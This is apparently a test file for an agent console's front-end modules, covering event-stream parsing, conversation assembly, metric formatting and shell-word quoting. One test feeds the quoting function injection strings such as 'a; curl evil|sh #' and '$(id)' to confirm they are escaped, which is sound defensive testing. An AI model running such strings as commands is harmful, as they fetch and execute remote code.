/** The console's pure parts, run where they live. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fixture } from './lib/fixture.mjs';

const at = fixture([]);

test('event streams are read whatever the chunks', async () => {
  await at.page('', async (page) => {
    const told = await page.evaluate(async () => {
      const { parser } = await import('/js/sse.js');
      const text = ': hello\n\nid: 1\nevent: message\ndata: {"a":1}\n\nid: 2\r\ndata: one\r\ndata: two\r\n\r\ndata:  kept\n\nevent: empty\n\nid: 3\ndata: ü€😀\n\ndata: unfinished';
      const all = [];
      for (let size = 1; size <= text.length; size += 1) {
        const out = [];
        const feed = parser((m) => out.push([m.id, m.event, m.data]));
        for (let i = 0; i < text.length; i += size) feed(text.slice(i, i + size));
        all.push(JSON.stringify(out));
      }
      return [...new Set(all)];
    });
    assert.deepEqual(told.map((t) => JSON.parse(t)), [[['1', 'message', '{"a":1}'], ['2', 'message', 'one\ntwo'], ['2', 'message', ' kept'], ['3', 'message', 'ü€😀']]]);
  });
});

test('a log folds into a conversation', async () => {
  await at.page('', async (page) => {
    const items = await page.evaluate(async () => {
      const { Conversation, streamed } = await import('/js/conversation.js');
      const talk = new Conversation();
      let cursor = 0;
      const event = (type, more) => talk.apply({ type, cursor: (cursor += 1), source: 'agent:a', timestamp: 1, ...more });
      event('message', { turn: 1, data: { content: 'first' } });
      event('message', { turn: 2, data: { content: 'queued' } });
      event('token_stream', { turn: 1, data: { content: 'old ' } });
      event('retry_stream', { turn: 1, data: {} });
      event('token_stream', { turn: 1, data: 'new ' });
      event('tool_call_stream', { turn: 1, data: { id: 'x', name: 't' } });
      event('tool_call_stream', { turn: 1, data: { id: 'y', name: 't' } });
      event('tool_result_stream', { turn: 1, data: { id: 'x', result: 1 } });
      event('token_stream', { turn: 1, data: { text: 'text' } });
      event('stream_end', { turn: 1, data: {} });
      talk.apply({ type: 'message_nack', turn: 1, error: 'why' });
      const delivery = talk.turns.get(1).delivery;
      event('response', { turn: 1, status: 'final', content: 'new text', outcome: { status: 'ok' } });
      event('x.reminder', { data: { content: 'tea' } });
      event('token_stream', { turn: 2, data: { odd: 1 } });
      return JSON.parse(JSON.stringify(talk.items.map((item) => ({ kind: item.kind, turn: item.turn, status: item.status, parts: item.parts?.map((p) => p.kind), streamed: item.parts && streamed(item),
        open: item.parts?.filter((p) => p.kind === 'tool').map((p) => p.result === undefined) })).concat({ delivery })));
    });
    assert.deepEqual(items, [
      { kind: 'turn', turn: 1, status: 'ok', parts: ['text', 'again', 'text', 'tool', 'tool', 'text'], streamed: 'new text', open: [false, true] },
      { kind: 'turn', turn: 2, status: 'streaming', parts: ['other'], streamed: '', open: [] },
      { kind: 'note' },
      { delivery: 'an attempt failed: why' },
    ]);
  });
});

test('numbers, quantiles and texts', async () => {
  await at.page('', async (page) => {
    const told = await page.evaluate(async () => {
      const { bytes, microseconds, span } = await import('/js/format.js');
      const { parseMetrics, quantile } = await import('/js/metrics.js');
      const { ceiling } = await import('/js/chart.js');
      const { jsonText, shellWord, visible } = await import('/js/text.js');
      const page = 'h_bucket{le="1"} 2\nh_bucket{le="2"} 4\nh_bucket{le="+Inf"} 4\n# HELP x\nplain 7\n';
      const now = parseMetrics(page).histogram('h');
      return {
        bytes: [0, 999, 1000, 999949, 999950, 12e9].map(bytes),
        us: [3.4, 999, 1500, 123456, 2e6].map(microseconds),
        span: [0, 59, 60, 3600, 86400 * 2 + 3600].map(span),
        quantiles: [quantile(now, [], 0.5), quantile(now, [], 0.75), quantile(now, now, 0.5), quantile(now, [[1, 2], [2, 2], [Infinity, 2]], 0.5)],
        plain: parseMetrics(page).value('plain'),
        ceiling: [0, 0.3, 1, 3, 7, 5000, 5001].map(ceiling),
        visible: visible('a\u202eb\n\u{e0041}\ufeff'),
        json: jsonText({ a: 'x\u202e\n\u{e0041}' }),
        words: ['echo', 'a; curl evil|sh #', "it's", '-x', '$(id)', 'a\u202eb', 'a\nb'].map(shellWord),
      };
    });
    assert.deepEqual(told, {
      bytes: ['0 B', '999 B', '1.0 kB', '1000 kB', '1.0 MB', '12 GB'],
      us: ['3 µs', '999 µs', '1.5 ms', '123 ms', '2.0 s'],
      span: ['0 s', '59 s', '1 min', '1 h 0 min', '2 d 1 h'],
      quantiles: [1, 1.5, null, 1.5],
      plain: 7,
      ceiling: [1, 0.5, 1, 5, 10, 5000, 10000],
      visible: 'a‹U+202E›b‹U+000A›‹U+E0041›‹U+FEFF›',
      json: '{\n  "a": "x\\u202e\\n\\udb40\\udc41"\n}',
      words: ['echo', "'a; curl evil|sh #'", "'it'\\''s'", "'-x'", "'$(id)'", null, null],
    });
  });
});

test('the address of the public listener', async () => {
  await at.page('', async (page) => {
    const told = await page.evaluate(async () => {
      const { publicUrl } = await import('/js/chat-link.js');
      return ['127.0.0.1:7070', '0.0.0.0:7070', '[::]:7070', '10.1.2.3:80'].map((text) => publicUrl({ public: text }));
    });
    assert.deepEqual(told, ['ws://127.0.0.1:7070/ws', 'ws://127.0.0.1:7070/ws', 'ws://127.0.0.1:7070/ws', 'ws://10.1.2.3:80/ws']);
  });
});
